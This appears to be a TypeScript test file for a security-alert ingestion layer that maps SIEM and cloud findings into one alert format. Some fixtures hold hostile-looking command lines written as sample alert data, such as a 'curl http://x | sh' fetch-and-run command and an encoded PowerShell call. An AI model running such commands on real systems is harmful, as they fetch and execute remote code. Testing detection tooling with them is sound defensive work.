import * as fs from 'node:fs';
import * as path from 'node:path';
import { adaptPayload, detectSource } from '../../src/ingest/adapters';
import { ALERT_SOURCES } from '../../src/ingest/canonical';
import { alertsOf, errorOf, loadSample, SAMPLES_DIR } from './samples.helper';

/** Envelope splitting, error paths for malformed payloads, heartbeats. */

const mdeAlert = () =>
  (loadSample('defender_graph/graph-alerts-v2-list-mde-hidden-file.json') as { value: Record<string, unknown>[] }).value[0];
const laRow = () => loadSample('sentinel/securityalert-loganalytics-row-01.json') as Record<string, unknown>;
const kibana = () => loadSample('elastic/kibana-alert-8.1-indicator-match-esarchive.json') as { value: { source: Record<string, unknown> } };

describe('payloads that are not objects', () => {
  it.each([
    [42, 'number'],
    ['{"AlertName":"x"}', 'string'],
    [null, 'null'],
    [true, 'boolean'],
  ])('%p → one error at the root', (payload, got) => {
    const outcomes = adaptPayload('sentinel', payload);
    expect(outcomes).toHaveLength(1);
    expect(errorOf(outcomes[0])).toEqual({ code: 'BAD_USER_INPUT', path: '', message: `alert must be a JSON object, got ${got}` });
  });

  it('an array element that is not an object fails alone, with its index', () => {
    const outcomes = adaptPayload('wazuh', [loadSample('wazuh/wazuh-alert-fim-file-added-554.json'), 'oops']);
    expect(outcomes[0].ok).toBe(true);
    expect(errorOf(outcomes[1]).path).toBe('[1]');
  });

  it('an empty envelope yields no outcomes', () => {
    expect(adaptPayload('defender', { value: [] })).toEqual([]);
    expect(adaptPayload('splunk', [])).toEqual([]);
  });
});

describe('error paths inside envelopes', () => {
  it('Graph value[]: each broken element reports its own path; good siblings still map', () => {
    const good = mdeAlert();
    const { id: _id, ...noId } = good;
    const payload = { value: [good, 7, noId, { ...good, id: 'x', createdDateTime: '2021-13-45T00:00:00Z' }, { ...good, id: 'y', title: 42 }] };
    const outcomes = adaptPayload('defender', payload);
    expect(outcomes).toHaveLength(5);
    expect(outcomes[0].ok).toBe(true);
    expect(errorOf(outcomes[1]).path).toBe('value[1]');
    // no id, but providerAlertId is the documented alias of id
    expect(outcomes[2].ok).toBe(true);
    expect(errorOf(outcomes[3]).path).toBe('value[3].createdDateTime');
    expect(errorOf(outcomes[3]).message).toMatch(/unparseable timestamp/);
    expect(errorOf(outcomes[4])).toMatchObject({ path: 'value[4].title', message: 'title must be a string, got a number' });
  });

  it('Graph: an alert with neither id nor providerAlertId', () => {
    const { id: _a, providerAlertId: _b, ...rest } = mdeAlert();
    expect(errorOf(adaptPayload('defender', { value: [rest] })[0])).toMatchObject({ path: 'value[0].id', message: expect.stringMatching(/missing alert id/) });
  });

  it('Sentinel row: missing id, wrong id type, missing and bad timestamps', () => {
    const { SystemAlertId: _s, VendorOriginalId: _v, ...noId } = laRow();
    expect(errorOf(adaptPayload('sentinel', noId)[0]).path).toBe('SystemAlertId');
    expect(errorOf(adaptPayload('sentinel', { ...laRow(), SystemAlertId: { nested: true } })[0])).toMatchObject({
      path: 'SystemAlertId',
      message: 'alert id must be a string, got an object',
    });
    expect(errorOf(adaptPayload('sentinel', { ...laRow(), TimeGenerated: 'yesterday' })[0])).toMatchObject({
      path: 'TimeGenerated',
      message: 'unparseable timestamp "yesterday"',
    });
    expect(errorOf(adaptPayload('sentinel', { ...laRow(), TimeGenerated: ['2024-01-01'] })[0]).path).toBe('TimeGenerated');
    // a missing primary time falls back to the next time field ...
    const { TimeGenerated: _t, ...noTime } = laRow();
    expect(alertsOf(adaptPayload('sentinel', noTime))[0].timestamp).toBe('2024-09-26T05:18:17.912Z');
    // ... and is an error only when no time field exists at all
    const { StartTime: _a, EndTime: _b, ProcessingEndTime: _c, ...noTimes } = noTime;
    expect(errorOf(adaptPayload('sentinel', noTimes)[0])).toMatchObject({ path: 'TimeGenerated', message: expect.stringMatching(/missing timestamp/) });
  });

  it('Sentinel row: AlertName missing falls back to DisplayName, both missing is an error', () => {
    const { AlertName: _a, ...noName } = laRow();
    expect(alertsOf(adaptPayload('sentinel', noName))[0].title).toMatch(/^Incident for Entity Type account/);
    const { DisplayName: _d, ...neither } = noName;
    expect(errorOf(adaptPayload('sentinel', neither)[0])).toMatchObject({ path: 'AlertName', message: expect.stringMatching(/missing title/) });
  });

  it('Elastic: paths point into the es_archive record', () => {
    const rec = kibana();
    delete rec.value.source['kibana.alert.rule.name'];
    expect(errorOf(adaptPayload('elastic', rec)[0]).path).toBe('value.source.kibana.alert.rule.name');
    const bare = { ...kibana().value.source };
    delete bare['kibana.alert.uuid'];
    expect(errorOf(adaptPayload('elastic', bare)[0])).toMatchObject({ path: 'kibana.alert.uuid', message: expect.stringMatching(/missing alert id/) });
    expect(errorOf(adaptPayload('elastic', { ...kibana().value.source, '@timestamp': 'garbage' })[0]).path).toBe('@timestamp');
  });

  it('Splunk: element index and field', () => {
    const [a] = loadSample('splunk/es-notables-recurring-malware-array.json') as Record<string, unknown>[];
    const { _time: _t, _indextime: _i, _raw: _r, ...noTime } = a;
    const outcomes = adaptPayload('splunk', [a, noTime, { ...a, _time: 'none' }]);
    expect(outcomes[0].ok).toBe(true);
    expect(errorOf(outcomes[1])).toMatchObject({ path: '[1]._time', message: expect.stringMatching(/missing timestamp/) });
    expect(errorOf(outcomes[2])).toMatchObject({ path: '[2]._time', message: 'unparseable timestamp "none"' });
    // without _time, the search time inside _raw is a time field of its own
    const { _time: _t2, _indextime: _i2, ...rawOnly } = a;
    expect(alertsOf(adaptPayload('splunk', rawOnly))[0].timestamp).toBe('2020-08-04T12:45:13.965Z');
  });

  it('CrowdStrike resources[]: a bad timestamp in the second alert', () => {
    const env = loadSample('crowdstrike/falcon-alerts-v2-entities-cloud-ioa.json') as { resources: Record<string, unknown>[] };
    env.resources[1].created_timestamp = 'not-a-time';
    const outcomes = adaptPayload('crowdstrike', env);
    expect(outcomes[0].ok).toBe(true);
    expect(errorOf(outcomes[1]).path).toBe('resources[1].created_timestamp');
  });

  it('Security Hub Findings[] without Id, SecOps detection[] without ruleName, OCSF without uid', () => {
    const f = loadSample('asff/asff-inspector-openssl-cve.json') as Record<string, unknown>;
    delete f.Id;
    expect(errorOf(adaptPayload('security_hub', { Findings: [f] })[0]).path).toBe('Findings[0].Id');

    const d = loadSample('google_secops/secops-rule-detection-v2-greynoise-ip-match.json') as { detection: Record<string, unknown>[] };
    delete d.detection[0].ruleName;
    expect(errorOf(adaptPayload('google_secops', d)[0]).path).toBe('detection[0].ruleName');

    const o = loadSample('ocsf/detection-finding-2004-okta.json') as { finding_info: Record<string, unknown> };
    delete o.finding_info.uid;
    expect(errorOf(adaptPayload('ocsf', { ...o, metadata: {} })[0]).path).toBe('finding_info.uid');
  });

  it('GCP Pub/Sub: data that is not base64 JSON', () => {
    const outcomes = adaptPayload('gcp_scc', {
      receivedMessages: [{ message: { data: Buffer.from('not json').toString('base64') } }, { message: {} }],
    });
    expect(errorOf(outcomes[0])).toMatchObject({ path: 'receivedMessages[0].message.data', message: expect.stringMatching(/base64-encoded JSON/) });
    expect(errorOf(outcomes[1]).path).toBe('receivedMessages[1].message.data');
  });

  it('OCSF: a payload without class_uid is not a finding', () => {
    expect(errorOf(adaptPayload('ocsf', { finding_info: { uid: 'x', title: 't' }, time: 1 })[0]).path).toBe('class_uid');
  });

  it('nested arrays keep their full index path', () => {
    const w = loadSample('wazuh/wazuh-alert-fim-file-added-554.json') as Record<string, unknown>;
    const outcomes = adaptPayload('wazuh', [[w, { ...w, id: undefined }], [w]]);
    expect(outcomes.map((o) => (o.ok ? 'ok' : o.error.path))).toEqual(['ok', '[0][1].id', 'ok']);
  });
});

describe('degrading gracefully', () => {
  it('unknown severity values fall back to medium', () => {
    const gd = loadSample('guardduty/guardduty-finding-impact-s3-maliciousipcaller.json') as Record<string, unknown>;
    expect(alertsOf(adaptPayload('guardduty', { ...gd, severity: 'banana' }))[0].severity).toBe('medium');
    expect(alertsOf(adaptPayload('guardduty', { ...gd, severity: undefined }))[0].severity).toBe('medium');
    expect(alertsOf(adaptPayload('defender', { ...mdeAlert(), severity: 'unknownFutureValue' }))[0].severity).toBe('medium');
  });

  it('malformed optional fields (Entities not JSON, evidence not an array) do not fail the alert', () => {
    const a = alertsOf(adaptPayload('sentinel', { ...laRow(), Entities: '[{not json', ExtendedProperties: 5 }))[0];
    expect(a.entities).toEqual([]);
    expect(alertsOf(adaptPayload('defender', { ...mdeAlert(), evidence: 'nope' }))[0].entities).toEqual([]);
  });
});

describe('envelopes', () => {
  it('Splunk {results:[...]} and the alert-action webhook {result, search_name, sid}', () => {
    const notables = loadSample('splunk/es-notables-recurring-malware-array.json') as Record<string, unknown>[];
    expect(adaptPayload('splunk', { results: notables })).toHaveLength(2);
    const raw = loadSample('splunk/notable-raw-excessive-failed-logins.json') as Record<string, unknown>;
    const { source: _s, ...noSource } = raw;
    const hook = { result: { ...noSource, _raw: '1739168412, app="ssl-web", src="89.160.20.112"' }, search_name: 'Hooked Rule', sid: 'scheduler__x' };
    const [a] = alertsOf(adaptPayload('splunk', hook));
    expect(a.title).toBe('Hooked Rule');
    expect((a.rawPayload as Record<string, unknown>).search_name).toBeUndefined(); // the envelope is not stored
  });

  it('Security Hub {Findings:[...]} and EventBridge; GuardDuty lists and EventBridge', () => {
    const asff = ['asff/asff-guardduty-cloudtrail-logging-disabled.json', 'asff/asff-inspector-openssl-cve.json', 'asff/asff-securityhub-fsbp-ec2-19.json'].map(loadSample);
    expect(alertsOf(adaptPayload('security_hub', { Findings: asff }))).toHaveLength(3);
    const eb = { 'detail-type': 'Security Hub Findings - Imported', source: 'aws.securityhub', detail: { findings: asff.slice(0, 2) } };
    expect(adaptPayload('security_hub', eb).map((o) => o.ok)).toEqual([true, true]);
    expect(detectSource(eb)).toBe('security_hub');

    const gd = ['guardduty/guardduty-finding-ec2-winrm-bruteforce-actor.json', 'guardduty/guardduty-finding-iamuser-toripcaller.json'].map(loadSample);
    expect(alertsOf(adaptPayload('guardduty', { Findings: gd }))).toHaveLength(2);
    expect(alertsOf(adaptPayload('guardduty', { findings: gd }))).toHaveLength(2);
    expect(alertsOf(adaptPayload('guardduty', gd))).toHaveLength(2);
    const gdEvent = { 'detail-type': 'GuardDuty Finding', source: 'aws.guardduty', detail: gd[1] };
    expect(alertsOf(adaptPayload('guardduty', gdEvent))[0].techniques).toEqual(['T1090.003']);
    expect(detectSource({ Findings: gd })).toBe('guardduty');
    expect(detectSource(gdEvent)).toBe('guardduty');
  });

  it('GuardDuty findings printed by the AWS CLI (PascalCase keys)', () => {
    const pascal = {
      Id: 'abc123',
      AccountId: '111122223333',
      Type: 'UnauthorizedAccess:EC2/SSHBruteForce',
      Severity: 2.0,
      CreatedAt: '2024-05-01T10:00:00.123Z',
      Title: '1.2.3.4 is performing SSH brute force attacks against i-0abc.',
      Resource: { ResourceType: 'Instance', InstanceDetails: { InstanceId: 'i-0abc' } },
      Service: { Action: { NetworkConnectionAction: { RemoteIpDetails: { IpAddressV4: '1.2.3.4' } } } },
    };
    const [a] = alertsOf(adaptPayload('guardduty', { Findings: [pascal] }));
    expect(a).toMatchObject({ alertId: 'abc123', severity: 'low', techniques: ['T1110'], vendorTenantId: '111122223333' });
    expect(a.entities.map((e) => `${e.type}:${e.value}`)).toEqual(['host:i-0abc', 'ip:1.2.3.4']);
    expect(a.rawPayload).toBe(pascal);
  });

  it('GCP listFindings results and a Pub/Sub push body', () => {
    const item = loadSample('gcp_scc/scc-listfindings-result-critical-application.json');
    expect(alertsOf(adaptPayload('gcp_scc', { listFindingsResults: [item, item] }))).toHaveLength(2);
    const push = { message: { data: Buffer.from(JSON.stringify(item)).toString('base64'), messageId: '1' }, subscription: 'projects/p/subscriptions/s' };
    const [a] = alertsOf(adaptPayload('gcp_scc', push));
    expect(a.severity).toBe('critical');
    expect(detectSource(push)).toBe('gcp_scc');
  });

  it('Elastic search responses and hits', () => {
    const src = kibana().value.source;
    const resp = { hits: { hits: [{ _id: 'a', _index: '.internal.alerts-security.alerts-space2-000001', _source: src }] } };
    const [a] = alertsOf(adaptPayload('elastic', resp));
    expect(a.alertId).toBe('30a75fe46d3dbdfab55982036f77a8d60e2d1112e96f277c3b8c22f9bb57817a'); // kibana.alert.uuid wins over _id
    // nested spelling of the same alert document maps identically
    const nested = {
      '@timestamp': src['@timestamp'],
      kibana: { alert: { uuid: 'u-1', severity: 'high', rule: { name: 'nested rule', threat: [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0002', name: 'Execution' }, technique: [{ id: 'T1059', subtechnique: [{ id: 'T1059.001' }] }] }] } } },
      process: { name: 'powershell.exe', command_line: 'powershell -enc AAA= ; whoami', pid: 42 },
      user: { name: 'alice' },
    };
    const [n] = alertsOf(adaptPayload('elastic', nested));
    expect(n).toMatchObject({ alertId: 'u-1', title: 'nested rule', severity: 'high', tactics: ['execution'], techniques: ['T1059', 'T1059.001'] });
    expect(n.entities.find((e) => e.type === 'process')?.properties.commandLine).toBe('powershell -enc AAA= ; whoami');
  });

  it('Sentinel Log Analytics query responses {tables:[{columns, rows}]}', () => {
    const row = laRow();
    const columns = Object.keys(row).map((name) => ({ name, type: 'string' }));
    const payload = { tables: [{ name: 'PrimaryResult', columns, rows: [Object.values(row), Object.values({ ...row, SystemAlertId: 'second' })] }] };
    const outcomes = adaptPayload('sentinel', payload);
    expect(alertsOf(outcomes).map((a) => a.alertId)).toEqual(['jnfjrdnkr-7cbd-5454-9c61-455cc9818f50', 'second']);
    expect(detectSource(payload)).toBe('sentinel');
  });
});

describe('Sentinel heartbeats and MITRE fields', () => {
  it.each(['heartbeat', 'HeartBeat', 'Test Alert', 'HEALTH CHECK', '  health check '])('AlertName %p is a heartbeat', (name) => {
    expect(alertsOf(adaptPayload('sentinel', { ...laRow(), AlertName: name }))[0].isHeartbeat).toBe(true);
  });

  it('ARM alerts are checked too; similar names are not heartbeats', () => {
    const arm = loadSample('sentinel/securityalert-arm-entity-01.json') as { properties: Record<string, unknown> };
    arm.properties.alertDisplayName = 'Heartbeat';
    expect(alertsOf(adaptPayload('sentinel', arm))[0].isHeartbeat).toBe(true);
    expect(alertsOf(adaptPayload('sentinel', { ...laRow(), AlertName: 'Heartbeat missing from host' }))[0].isHeartbeat).toBeUndefined();
  });

  it('Techniques as JSON array, as CSV, and from ExtendedProperties; tactics CSV', () => {
    const json = alertsOf(adaptPayload('sentinel', { ...laRow(), Techniques: '["T1059.001","t1078"]', Tactics: 'InitialAccess, Persistence' }))[0];
    expect(json.techniques).toEqual(['T1059.001', 'T1078']);
    expect(json.tactics).toEqual(['initial-access', 'persistence']);
    const csv = alertsOf(adaptPayload('sentinel', { ...laRow(), Techniques: 'T1566, T1078.004,T1566' }))[0];
    expect(csv.techniques).toEqual(['T1566', 'T1078.004']);
    const ext = alertsOf(adaptPayload('sentinel', { ...laRow(), ExtendedProperties: '{"MITRE Techniques":"T1110.003","Other":"T9999"}' }))[0];
    expect(ext.techniques).toEqual(['T1110.003']);
  });

  it('maps the Sentinel entity model (array form, refs skipped, unknown types ignored)', () => {
    const entities = [
      { $id: '1', Type: 'host', HostName: 'web01', DnsDomain: 'corp.example.com', OSFamily: 'Linux' },
      { $id: '2', Type: 'ip', Address: '203.0.113.9' },
      { $id: '3', Type: 'process', ProcessId: '4242', CommandLine: 'bash -c "curl http://x | sh"', ImageFile: { $ref: '9' } },
      { $id: '4', Type: 'filehash', Algorithm: 'SHA256', Value: 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855' },
      { $id: '5', Type: 'url', Url: 'https://evil.example/a?b=c&d=e' },
      { $id: '6', Type: 'mailbox', MailboxPrimaryAddress: 'bob@example.com' },
      { $id: '7', Type: 'registry-key', Hive: 'HKEY_LOCAL_MACHINE', Key: 'SOFTWARE\\Run' },
      { $id: '8', Type: 'iotdevice', DeviceId: 'x' },
      { $ref: '1' },
    ];
    const a = alertsOf(adaptPayload('sentinel', { ...laRow(), Entities: entities }))[0];
    expect(a.entities.map((e) => `${e.type}:${e.value}`)).toEqual([
      'host:web01.corp.example.com',
      'ip:203.0.113.9',
      'process:bash -c "curl http://x | sh"', // a process known only by its command line keeps it verbatim
      'filehash:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      'url:https://evil.example/a?b=cd=e', // '&' is stripped (spec §4.5)
      'mailbox:bob@example.com',
      'registry-key:HKEY_LOCAL_MACHINE\\SOFTWARE\\Run',
    ]);
    expect(a.entities[3].properties.algorithm).toBe('sha256');
    expect(a.entities[0].sourceId).toBe('1');
  });
});

describe('detectSource', () => {
  it('recognises canonical input and gives up on unknown shapes', () => {
    expect(detectSource({ alertId: 'a', title: 't', timestamp: '2024-01-01T00:00:00Z', severity: 'low' })).toBe('canonical');
    expect(detectSource({ hello: 'world' })).toBeUndefined();
    expect(detectSource(42)).toBeUndefined();
    expect(detectSource([])).toBeUndefined();
  });
});

describe('robustness across formats', () => {
  const files = fs
    .readdirSync(SAMPLES_DIR)
    .filter((d) => fs.statSync(path.join(SAMPLES_DIR, d)).isDirectory())
    .flatMap((d) => fs.readdirSync(path.join(SAMPLES_DIR, d)).map((f) => `${d}/${f}`));
  const NOT_ALERT_FORMATS = /^(stix|misp|snyk|trivy|garak|wiz|qradar|falco)\//;

  it.each(files)('%s under every source: outcomes, never an exception or an internal mapping failure', (file) => {
    const text = fs.readFileSync(path.join(SAMPLES_DIR, file), 'utf8');
    const payloads: unknown[] = file.endsWith('.jsonl') ? text.split('\n').filter(Boolean).map((l) => JSON.parse(l)) : [JSON.parse(text)];
    for (const p of payloads) {
      for (const source of ALERT_SOURCES) {
        for (const o of adaptPayload(source, p)) {
          if (!o.ok) expect(o.error.message).not.toMatch(/could not map/);
        }
      }
      if (NOT_ALERT_FORMATS.test(file)) expect(detectSource(p)).toBeUndefined();
    }
  });
});
